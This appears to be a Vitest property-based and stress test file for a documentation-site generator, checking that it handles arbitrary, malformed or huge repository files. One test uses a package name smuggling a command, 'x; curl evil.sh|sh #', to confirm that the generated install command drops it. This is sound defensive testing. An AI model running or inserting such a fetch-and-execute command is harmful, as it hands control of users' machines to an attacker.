import fc from '#test/support/property.ts';
import { describe, expect, it } from 'vitest';
import { memoryRepository } from '#test/support/webhook/memory-repository.ts';
import { offlineSite } from '#test/support/docs/offline-site.ts';

describe('any repository', () => {
  const names = fc.constantFrom(
    ...['README.md', 'a.ts', 'b.js', 'c.py', 'd.go', 'package.json', 'pyproject.toml', 'go.mod'],
    ...['Cargo.toml', 'src/lib.rs', 'src/b.rs', 'A.java', 'include/a.h'],
    ...['Makefile', '.env.example', 'compose.yaml', 'a_test.go', 'docs/x.md', 'justfile'],
  );
  const piece = fc.oneof(
    fc.constantFrom(
      ...['\n', '\n\n', ' ', '    ', '\t', '{', '}', '(', ')', '[', ']', '<', '>', '"', "'", '`'],
      ...['/**', '*/', '//', '#', '##', ':', ';', '=', '=>', ',', '|', '---', '===', '"""', '```'],
      ...[
        '<!--',
        '-->',
        'export ',
        'export default ',
        'function f',
        'class A',
        'const a',
        'type T',
      ],
      ...['module.exports = ', 'exports.a = function', 'def f', 'class B:', 'func F', 'package p'],
      ...[
        'pub fn f',
        'pub struct S',
        'impl S',
        'pub mod b',
        'pub use b::',
        '#[',
        '///',
        '//!',
        '::',
      ],
      ...['import ', '@param a', '@example', 'process.env.X', 'os.environ["X"]', 'X=1', '\\'],
    ),
    fc.string({ maxLength: 8 }),
  );
  const text = fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join(''));

  it('gets a plan and its pages, whatever stands in its files', () => {
    fc.assert(
      fc.property(fc.dictionary(names, text, { maxKeys: 6 }), (files) => {
        const { plan, pages } = offlineSite(memoryRepository(files));
        expect(plan.navigation[0]?.pages[0]?.slug).toBe('overview');
        for (const page of pages.values()) expect(page).toMatch(/^# /);
      }),
      { numRuns: 300 },
    );
  });

  it('names no package in a command that its manager would refuse', () => {
    const commandOf = (name: string) => {
      const manifest = JSON.stringify({ name, engines: { node: '>=22' } });
      return offlineSite(memoryRepository({ 'package.json': manifest })).pages.get(
        'getting-started',
      );
    };
    expect(commandOf('@acme/shop')).toContain('npm install @acme/shop');
    expect(commandOf('x; curl evil.sh|sh #') ?? '').not.toContain('curl');
  });

  it('shows no markup of a generator outside code, whatever a guide holds', () => {
    const rst = [
      ...[
        '.. note:: x',
        '.. code-block:: py',
        '.. _label:',
        ':ref:`a`',
        ':class:`~a.B`',
        '===',
        '    b',
      ],
      ...[
        '.. |x| image:: y',
        '.. list-table::',
        '   * - a',
        '+--+--+',
        '|a |b |',
        '== ==',
        '::',
        '>>> a',
      ],
      ...[
        'T',
        '- a',
        '1. b',
        '',
        '.. automodule:: x',
        '   :members:',
        'text',
        '`a`',
        '``b``',
        '.. [1] a',
      ],
    ];
    const myst = [
      ...[
        '```{note}',
        '```',
        '````{tip} a',
        '````',
        ':::{warning}',
        ':::',
        '(label)=',
        '{ref}`a`',
        '',
      ],
      ...[
        '{x}`a <b>`',
        '!!! note',
        '??? tip "x"',
        '=== "Tab"',
        '{{< toc >}}',
        '{% raw %}',
        '<Tabs>',
        '- a',
      ],
      ...[
        '> q',
        '{#id}',
        'text',
        '`a`',
        ':::note Title',
        '```{eval-rst}\n.. note:: x\n```',
        '    body',
        '.. note:: x',
      ],
    ];
    const guide = (pieces: string[]) =>
      fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((each) => each.join('\n'));
    const raw =
      /^\s*(?:\.\. _|\.\. \||:::|!!! |\?\?\? |=== "|\([\w-]+\)=$|\{#)|:[a-z]+:`|\{[a-z]+\}`|\{\{<|\{%|<\/?Tabs>/m;
    fc.assert(
      fc.property(guide(rst), guide(myst), (one, two) => {
        const files = {
          'docs/a.rst': `T\n=\n\nSome text for the page.\n\n${one}`,
          'docs/b.md': `# T\n\nSome text for the page.\n\n${two}`,
        };
        for (const text of offlineSite(memoryRepository(files)).pages.values()) {
          const outside = text
            .replace(/^([ >]*)(`{3,})[^`\n]*\n[^]*?\n\1\2$/gm, '')
            .replace(/(`+)(?:[^`]|[^`][^]*?[^`])\1(?!`)/g, '');
          expect(outside).not.toMatch(raw);
        }
      }),
      { numRuns: 500 },
    );
  });

  const rust: [string, string][] = [
    ['functions', 'pub fn f(\n'.repeat(20_000)],
    ['modules', 'pub mod a {\n'.repeat(20_000)],
    ['uses', 'pub use a::{b, c as d, self::*};\n'.repeat(20_000)],
    [
      'circles',
      'pub use self::a as b;\npub use self::b as a;\nmod c { pub use super::*; }\n'.repeat(2_000),
    ],
    ['implementations', 'pub struct A;\nimpl A { pub fn b(&self) {} }\n'.repeat(10_000)],
    ['attributes', '#[cfg_attr(a, doc = "b'.repeat(10_000)],
    ['comments', `${'/// [a](b [`c`][d]\n'.repeat(20_000)}pub fn f() {}`],
    ['macros', `cfg_a! {\n${'    pub fn f() {}\n'.repeat(10_000)}${'cfg_b! {\n'.repeat(5_000)}`],
    ['brackets', `pub const A: u8 = ${'('.repeat(100_000)}`],
    ['generics', `pub type A = ${'B<'.repeat(50_000)}`],
  ];
  const java: [string, string][] = [
    ['classes', 'public class A {\n'.repeat(20_000)],
    ['methods', `public class A {\n${'  public void f() throws X {\n'.repeat(20_000)}}`],
    ['comments', `${'/**\n'.repeat(20_000)}public class A {}`],
    [
      'tags',
      `/** ${'{@code {@link <pre> &lt; <code>`\n * @see b\n'.repeat(20_000)} */\npublic class A {}`,
    ],
    ['brackets', `public class A { int a = ${'('.repeat(100_000)}; }`],
    ['generics', `public class A { public ${'B<'.repeat(50_000)} a; }`],
    ['quotes', `public class A {\n${`  public char a = '"; "\n`.repeat(10_000)}}`],
    ['annotations', `${'@A(b = "c")\n'.repeat(20_000)}public class A {}`],
  ];
  const c: [string, string][] = [
    ['functions', 'int f(\n'.repeat(20_000)],
    ['conditions', `${'#if 0\n'.repeat(20_000)}int f(void);`],
    ['branches', '#if A\nint f(void) {\n#else\nint f(int) {\n#endif\n}\n'.repeat(8_000)],
    ['long macros', '#define A(b) \\\n'.repeat(20_000)],
    ['open comments', '/*\n'.repeat(50_000)],
    ['comments', `${'// a\n'.repeat(20_000)}${'#define A 1\n'.repeat(2_000)}`],
    ['commands', `/** ${'@code @param a \\c b @note\n'.repeat(10_000)}*/\nint f(void);`],
    ['brackets', `int a = ${'('.repeat(100_000)};`],
    ['macros', `AAAA ${'AAAA('.repeat(20_000)}`],
    ['attributes', `int f(void) ${'AAAA(a) '.repeat(20_000)}`],
    ['words', `${'a b c d '.repeat(20_000)}(`],
    ['old declarations', 'a AB((c '.repeat(20_000)],
    ['structures', 'struct a {\n'.repeat(20_000)],
    ['stars', `int ${'*'.repeat(100_000)}f(void);`],
  ];
  const long: [string, string, string][] = [
    ['open brackets', 'a.ts', `export const a = ${'('.repeat(40_000)}`],
    ['open types', 'a.ts', `export type A =\n${'| {\n'.repeat(10_000)}`],
    ['exports', 'a.ts', 'export {\n'.repeat(20_000)],
    ['declarations', 'a.ts', 'export function f(\n'.repeat(20_000)],
    ['generic calls', 'a.ts', 'f(a<b,c>(\n'.repeat(20_000)],
    ['overloads', 'a.ts', 'export function f(): void\n'.repeat(20_000)],
    ['variables', 'a.ts', `export const ${'a,\n'.repeat(50_000)}b = 1;`],
    [
      'different names',
      'a.ts',
      Array.from({ length: 10_000 }, (_, at) => `export let a${at};`).join('\n'),
    ],
    [
      're-exports',
      'index.ts',
      "export * from './index';\nexport { a as b } from '.';\n".repeat(5_000),
    ],
    ['comments', 'a.ts', '/**\n'.repeat(20_000)],
    ['methods', 'a.ts', `export class A {\n${'  f() {}\n'.repeat(20_000)}}`],
    ['classes', 'a.ts', 'export class A {\n  a() {}\n'.repeat(5_000)],
    ['definitions', 'a.py', 'def f(\n'.repeat(20_000)],
    ['Python methods', 'a.py', `class A:\n${'  def f(\n'.repeat(20_000)}`],
    ['Python classes', 'a.py', 'class A:\n  x\n'.repeat(10_000)],
    ['Python overloads', 'a.py', '@overload\ndef f(): ...\n'.repeat(20_000)],
    ['methods of a type', 'a.go', `package a\ntype T int\n${'func (t T) F() {}\n'.repeat(20_000)}`],
    ['docstrings', 'a.py', `def f():\n  """${':param a: b\n  Args:\n    '.repeat(20_000)}"""`],
    ['Go lists', 'a.go', `package a\nvar (\n${'A, B = 1, 2\n'.repeat(20_000)})`],
    ['functions', 'a.go', `package a\n${'func F(\n'.repeat(20_000)}`],
    ...rust.map(([what, code]): [string, string, string] => [`Rust ${what}`, 'src/lib.rs', code]),
    ...c.map(([what, code]): [string, string, string] => [`C ${what}`, 'include/a.h', code]),
    ['C++ namespaces', 'include/a.hpp', 'namespace a {\n'.repeat(20_000)],
    ...java.map(([what, code]): [string, string, string] => [`Java ${what}`, 'A.java', code]),
    ['links', 'README.md', `# A\n${'[a]('.repeat(50_000)}`],
    ['brackets', 'README.md', `# A\n${'['.repeat(100_000)}`],
    ['ticks', 'README.md', `# A\n${'` `` '.repeat(30_000)}`],
    ['tags', 'README.md', `# A\n${'<a '.repeat(60_000)}`],
    ['fences', 'README.md', `# A\n${'```\n~~~\n'.repeat(20_000)}`],
    ['headings', 'README.md', '## A\n'.repeat(20_000)],
    ['blank lines', 'README.md', ' \n'.repeat(100_000)],
    ['spaces', 'a.ts', `export const a =${' '.repeat(200_000)}`],
    ['variables', 'a.ts', 'process.env.A ?? (\n'.repeat(20_000)],
    ['helpers', 'a.py', 'def f(a): os.environ[a]\n'.repeat(10_000)],
    ['directives', 'docs/a.rst', '.. note::\n\n   '.repeat(20_000)],
    [
      'deep directives',
      'docs/a.rst',
      Array.from({ length: 900 }, (_, at) => `${' '.repeat(3 * at)}.. note::\n`).join(''),
    ],
    ['roles', 'docs/a.rst', `${':a:`b'.repeat(400)}\n`.repeat(100)],
    ['literals', 'docs/a.rst', `${'``a'.repeat(700)}\n\n`.repeat(50)],
    ['rules', 'docs/a.rst', '=====\n'.repeat(20_000)],
    ['tables', 'docs/a.rst', '+--+--+\n|a |b |\n'.repeat(10_000)],
    ['simple tables', 'docs/a.rst', '== ==\na  b\n'.repeat(10_000)],
    ['colons', 'docs/a.md', ':::{note}\n'.repeat(20_000)],
    ['open fences', 'docs/a.md', '```{note}\n````{tip}\n'.repeat(10_000)],
    [
      'tabs',
      'docs/a.md',
      Array.from({ length: 700 }, (_, at) => `${' '.repeat(4 * at)}!!! note\n`).join(''),
    ],
    ['braces', 'docs/a.md', `${'{a}`'.repeat(700)}\n`.repeat(100)],
    ['toctrees', 'docs/index.rst', '.. toctree::\n\n   a\n'.repeat(10_000)],
    ['spaces in text', 'README.md', `# A${' '.repeat(200_000)}b`],
  ];
  const somePages = 5;
  const many = (count: number, pathOf: (at: number) => string, content = '# P\n\ntext') =>
    Object.fromEntries(Array.from({ length: count }, (_, at) => [pathOf(at), content]));
  it.each([
    [
      'a menu of many entries',
      {
        ...many(2_000, (at) => `docs/d${at % 400}/p${at}.md`),
        'sidebars.js': Array.from({ length: 25_000 }, (_, at) => `"x${at}",\n`).join(''),
      },
    ],
    [
      'many patterns in a toctree',
      {
        ...many(5_000, (at) => `docs/p${at}.md`),
        'docs/index.rst': `I\n=\n\n.. toctree::\n\n${Array.from({ length: 10_000 }, (_, at) => `   ${at}*\n`).join('')}`,
      },
    ],
    ['many folders of guides', many(19_000, (at) => `docs/d${at}/p.md`)],
  ])('is read in seconds when a repository has %s (S15)', (_, files) => {
    expect(offlineSite(memoryRepository(files), somePages).pages.size).toBeGreaterThan(0);
  });

  it.each(long)('is read in seconds when a file is nothing but %s (S15)', (_, name, content) => {
    const files = { 'Cargo.toml': '[package]\nname = "a"', [name]: content };
    const { pages } = offlineSite(memoryRepository(files), somePages);
    expect(pages.size).toBeGreaterThan(0);
  });
});
